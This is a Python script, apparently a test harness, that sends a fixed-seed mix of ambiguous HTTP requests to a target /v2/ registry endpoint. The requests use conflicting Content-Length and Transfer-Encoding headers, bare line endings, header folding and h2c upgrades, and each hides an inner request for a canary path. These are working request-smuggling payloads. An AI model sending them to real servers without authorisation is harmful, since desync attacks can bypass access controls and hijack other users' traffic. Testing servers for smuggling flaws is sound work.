"""Requests that two readers could read differently: ambiguous.py ADDRESS:PORT COUNT.

Each comes on a connection of its own and carries, where its body would be, a request for an image that nobody else asks
for: smuggled/1, smuggled/2, ... The shapes are mixed with a fixed seed.
"""

import random
import socket
import sys

# What stands between the request line and the empty line; %d is the length of what follows.
FRAMES = [
    "Content-Length: 0\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: %d",
    "Transfer-Encoding: xchunked\r\nContent-Length: 0",
    "Transfer-Encoding : chunked\r\nContent-Length: 0",
    "Transfer-Encoding:\tchunked\r\nContent-Length: 0",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: %d",
    "Content-Length: 0, %d",
    "Content-Length: +%d",
    "Content-Length: 0x%x",
    "Content-Length: %d ",
    "Content-Length : %d",
    "Content-Length: 00%d",
    "content-length: 0\r\ntransfer-ENCODING: CHUNKED",
    "X: y\nTransfer-Encoding: chunked\r\nContent-Length: 0",
    "X: y\rTransfer-Encoding: chunked\r\nContent-Length: 0",
    "Connection: Content-Length\r\nContent-Length: %d",
    "Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "Expect: 100-continue\r\nContent-Length: %d",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
]
BODIES = ["%s", "0\r\n\r\n%s", "0;x=y\r\n\r\n%s", "1\r\nZ\r\n0\r\n\r\n%s", "0\n\n%s", "\r\n%s", "00\r\nA: b\r\n\r\n%s"]
LINES = ["GET /v2/ HTTP/1.1", "HEAD /v2/ HTTP/1.1", "POST /v2/ HTTP/1.1", "GET /v2/ HTTP/1.0", "GET  /v2/ HTTP/1.1"]


def main():
    host, _, port = sys.argv[1].partition(":")
    choose = random.Random(7)
    for number in range(int(sys.argv[2])):
        inner = "GET /v2/smuggled/%d/manifests/1 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" % number
        body = choose.choice(BODIES) % inner
        frame = FRAMES[number % len(FRAMES)]
        frame = frame % len(body) if "%" in frame else frame
        request = "%s\r\nHost: a\r\n%s\r\n\r\n%s" % (choose.choice(LINES), frame, body)
        with socket.create_connection((host, int(port)), timeout=10) as connection:
            connection.sendall(request.encode("latin-1"))
            connection.shutdown(socket.SHUT_WR)
            try:
                while connection.recv(65536):
                    pass
            except ConnectionResetError:
                pass


main()
